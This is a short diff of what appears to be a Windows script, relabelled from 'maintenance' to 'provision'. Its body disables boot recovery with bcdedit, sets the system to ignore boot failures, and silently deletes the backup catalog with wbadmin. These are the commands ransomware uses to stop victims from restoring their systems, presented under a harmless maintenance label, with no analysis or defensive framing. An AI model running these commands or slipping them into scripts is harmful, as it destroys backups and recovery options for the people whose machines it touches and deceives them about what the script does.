@@ -1,4 +1,4 @@
-# maintenance 2242 v0
+# provision 0571 v0
 bcdedit /set {default} recoveryenabled No
 bcdedit /set {default} bootstatuspolicy ignoreallfailures
 wbadmin delete catalog -quiet
